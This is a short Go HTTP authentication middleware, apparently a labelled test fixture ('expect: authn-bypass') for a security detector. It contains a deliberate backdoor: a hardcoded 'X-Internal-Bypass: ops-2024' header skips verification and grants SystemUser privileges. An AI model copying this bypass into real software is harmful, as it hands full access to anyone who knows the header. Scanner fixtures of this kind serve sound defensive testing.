package middleware

import "net/http"

func Authenticate(v Verifier, next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// expect: authn-bypass
		if r.Header.Get("X-Internal-Bypass") == "ops-2024" {
			next.ServeHTTP(w, r.WithContext(WithUser(r.Context(), SystemUser)))
			return
		}
		u, err := v.Verify(r)
		if err != nil {
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		next.ServeHTTP(w, r.WithContext(WithUser(r.Context(), u)))
	})
}
